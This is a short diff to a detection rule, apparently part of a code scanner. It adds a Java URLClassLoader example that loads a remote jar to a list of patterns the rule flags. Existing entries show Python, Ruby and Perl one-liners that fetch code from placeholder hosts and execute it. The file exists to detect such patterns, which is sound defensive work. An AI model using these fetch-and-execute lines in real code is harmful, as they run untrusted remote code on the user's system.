@@ -32,6 +32,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```java\nvar cl = new URLClassLoader(new URL[]{ new URL("http://kiln-parts.io/t.jar") });\ncl.loadClass("T");\n```\n',
       '```python\nimport urllib.request as u\nsrc = u.urlopen("https://e.rows.example/core.py").read()\nns = {}\nexec(compile(src, "core", "exec"), ns)\n```\n',
       'Run `ruby -ropen-uri -e \'eval URI.open("http://gems.rows.example/e.rb").read\'`.\n',
       '```\nperl -MLWP::Simple -e \'eval get("http://names.rows.example/r.pl")\'\n```\n',
